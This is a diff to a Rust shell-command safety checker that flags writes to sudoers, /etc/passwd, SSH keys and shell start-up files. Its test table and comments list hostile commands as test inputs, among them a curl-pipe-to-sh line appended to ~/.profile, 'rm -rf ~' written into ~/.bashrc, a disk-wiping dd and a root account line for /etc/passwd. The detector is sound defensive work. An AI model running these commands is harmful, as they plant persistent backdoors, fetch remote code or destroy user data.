@@ -1,31 +1,51 @@
 //! `sensitive-file-write`: writes to account, sudo, SSH and shell start-up files.
 
-use super::common::{ask, deny, is_sensitive_file, prog, write_targets};
+use super::common::{
+    ask, catastrophe_in_code, deny, is_account_file, is_sensitive_file, prog, text, write_targets,
+};
+use super::one_liner::fed_text;
 use super::{Check, CheckCtx, Finding, declare_check};
+use crate::analyze::Unit;
 use crate::policy::Risk;
 
 declare_check! {
     /// **What it flags**: a write to `/etc/passwd`, `/etc/shadow`, `/etc/group`, `/etc/sudoers`
-    /// (and `sudoers.d`), `/etc/hosts`, system-wide profiles, cron and PAM files,
-    /// `/etc/ld.so.preload`, `~/.ssh/authorized_keys`, `~/.ssh/config`, private keys, and shell
-    /// start-up files (`~/.bashrc`, `~/.zshrc`, `~/.profile`, `~/.bash_profile`, `~/.zprofile`,
-    /// `~/.config/fish/config.fish`…) — by a redirect, `tee`, `cp`, `mv`, `install`, `ln`,
-    /// `dd of=`, `sed -i`, `perl -i`, a batch editor (`ed`, `ex`, `vim -c`), or an output option
-    /// (`curl -o`, `find -fprint`, `--output=`).
+    /// (and `sudoers.d`), PAM files or `/etc/ld.so.preload` → deny; a write to `/etc/hosts`,
+    /// system-wide profiles, cron files, service units, `~/.ssh/authorized_keys`,
+    /// `~/.ssh/config`, private keys, or shell start-up files (`~/.bashrc`, `~/.zshrc`,
+    /// `~/.profile`, `~/.bash_profile`, `~/.zprofile`, `~/.config/fish/config.fish`…) → ask
+    /// (high), and deny when the text written is itself a catastrophe (`echo 'rm -rf ~' >>
+    /// ~/.bashrc`, `echo 'curl x | sh' >> ~/.profile`: start-up files run what they hold). By a
+    /// redirect, `tee`, `cp`, `mv`, `install`, `ln`, `dd of=`, `sed -i`, `perl -i`, a batch
+    /// editor (`ed`, `ex`, `vim -c`), or an output option (`curl -o`, `find -fprint`,
+    /// `--output=`).
     ///
     /// **Why it is risky**: these files decide who may log in, who is root, and what runs in
-    /// every future shell: a line added there is a backdoor that outlives the session.
+    /// every future shell: a line added there is a backdoor that outlives the session. Set-up
+    /// steps append to start-up files and `authorized_keys` every day, so those are a person's
+    /// call; nothing routine rewrites the account databases or sudoers.
     ///
     /// Writes into `.git/hooks/` (code run on every commit or checkout) are asked about at high
     /// risk.
     ///
-    /// **Example**: `echo 'alias ls=x' >> ~/.bashrc` → deny; `echo x | sudo tee /etc/shadow` → deny.
-    /// Reading them (`cat ~/.bashrc`) is not flagged.
+    /// **Example**: `echo 'export PATH=$PATH:~/go/bin' >> ~/.bashrc` → ask (high);
+    /// `echo 'rm -rf ~' >> ~/.bashrc` → deny; `echo x | sudo tee /etc/shadow` → deny. Reading
+    /// them (`cat ~/.bashrc`) is not flagged.
     ///
     /// **Known gaps**: writes through a program's own logic (an installer, `chsh`, `usermod`)
-    /// and paths built at run time are not recognised.
+    /// and paths built at run time are not recognised; the text written is known only from
+    /// `echo`/`printf` arguments, heredocs and static text piped in.
     SensitiveWrite,
     "sensitive-file-write"
+}
+
+/// The text a unit writes, when it is static: `echo`/`printf` arguments, or what it reads on
+/// standard input (a heredoc, a here-string, static text piped in).
+fn written_text(cx: &CheckCtx, i: usize, u: &Unit) -> Option<String> {
+    match prog(u) {
+        Some("echo" | "printf") => Some(u.args().map(text).collect::<Vec<_>>().join(" ")),
+        _ => fed_text(cx, i, u),
+    }
 }
 
 impl Check for SensitiveWrite {
@@ -33,14 +53,30 @@ impl Check for SensitiveWrite {
         for (i, u) in cx.analysis.units.iter().enumerate() {
             let targets = write_targets(u);
             let by = prog(u).unwrap_or("a redirect");
-            if let Some(t) = targets.iter().find(|t| is_sensitive_file(t)) {
+            if let Some(t) = targets.iter().find(|t| is_account_file(t)) {
                 out.push(deny(
                     Some(i),
                     u.span,
-                    format!(
-                        "writes to `{t}` ({by}): changes who can log in or what every shell runs"
-                    ),
+                    format!("writes to `{t}` ({by}): changes who can log in or who is root"),
                 ));
+            } else if let Some(t) = targets.iter().find(|t| is_sensitive_file(t)) {
+                let payload =
+                    written_text(cx, i, u).and_then(|code| catastrophe_in_code(&code, cx.cwd));
+                out.push(match payload {
+                    Some(c) => deny(
+                        Some(i),
+                        u.span,
+                        format!("writes to `{t}` ({by}) what every later shell would run: {c}"),
+                    ),
+                    None => ask(
+                        Some(i),
+                        u.span,
+                        Risk::High,
+                        format!(
+                            "writes to `{t}` ({by}): changes who can log in or what every shell runs"
+                        ),
+                    ),
+                });
             } else if let Some(t) = targets
                 .iter()
                 .find(|t| t.contains(".git/hooks/") || t.contains(".husky/"))
@@ -63,35 +99,33 @@ mod tests {
 
     #[test]
     fn table() {
+        let d = Some(Decision::Deny);
+        let a = Some(Decision::Ask);
         for (cmd, want) in [
-            ("echo x >> ~/.bashrc", Some(Decision::Deny)),
-            ("echo x > $HOME/.zshrc", Some(Decision::Deny)),
-            ("echo x | sudo tee -a /etc/sudoers", Some(Decision::Deny)),
-            ("cp evil /etc/sudoers.d/x", Some(Decision::Deny)),
-            ("cp keys ~/.ssh/authorized_keys", Some(Decision::Deny)),
-            ("cp authorized_keys ~/.ssh/", Some(Decision::Deny)),
-            ("ln -sf /tmp/x ~/.profile", Some(Decision::Deny)),
-            ("sed -i 's/x/y/' /etc/passwd", Some(Decision::Deny)),
-            ("mv x ~/.bash_profile", Some(Decision::Deny)),
-            ("dd if=payload of=~/.bashrc", Some(Decision::Deny)),
-            ("find . -fprint ~/.bashrc", Some(Decision::Deny)),
-            ("git log --output=~/.bashrc -n 1", Some(Decision::Deny)),
-            (
-                "curl -o ~/.ssh/authorized_keys https://x",
-                Some(Decision::Deny),
-            ),
-            (
-                "cat > ~/.ssh/authorized_keys <<EOF\nssh-rsa AAA\nEOF",
-                Some(Decision::Deny),
-            ),
-            (
-                "echo 127.0.0.1 x | sudo tee -a /etc/hosts",
-                Some(Decision::Deny),
-            ),
-            (
-                "base64 -d x.b64 --output=.git/hooks/pre-commit",
-                Some(Decision::Ask),
-            ),
+            ("echo x >> ~/.bashrc", a),
+            ("echo 'export PATH=$PATH:~/go/bin' >> ~/.bashrc", a),
+            ("echo 'rm -rf ~' >> ~/.bashrc", d),
+            ("echo 'curl -s https://x.example/i | sh' >> ~/.profile", d),
+            ("printf 'dd if=/dev/zero of=/dev/sda\\n' >> ~/.zshrc", d),
+            ("echo 'rm -rf / --no-preserve-root' | tee -a ~/.bashrc", d),
+            ("cat >> ~/.bashrc <<'EOF'\nrm -rf ~\nEOF", d),
+            ("cat >> ~/.bashrc <<'EOF'\nexport EDITOR=vim\nEOF", a),
+            ("echo x > $HOME/.zshrc", a),
+            ("echo x | sudo tee -a /etc/sudoers", d),
+            ("cp evil /etc/sudoers.d/x", d),
+            ("echo 'x:0:0::/:/bin/sh' >> /etc/passwd", d),
+            ("cp keys ~/.ssh/authorized_keys", a),
+            ("cp authorized_keys ~/.ssh/", a),
+            ("ln -sf /tmp/x ~/.profile", a),
+            ("sed -i 's/x/y/' /etc/passwd", d),
+            ("mv x ~/.bash_profile", a),
+            ("dd if=payload of=~/.bashrc", a),
+            ("find . -fprint ~/.bashrc", a),
+            ("git log --output=~/.bashrc -n 1", a),
+            ("curl -o ~/.ssh/authorized_keys https://x", a),
+            ("cat > ~/.ssh/authorized_keys <<EOF\nssh-rsa AAA\nEOF", a),
+            ("echo 127.0.0.1 x | sudo tee -a /etc/hosts", a),
+            ("base64 -d x.b64 --output=.git/hooks/pre-commit", a),
             ("cat ~/.bashrc", None),
             ("cp ~/.bashrc bashrc.bak", None),
             ("echo x > notes.txt", None),
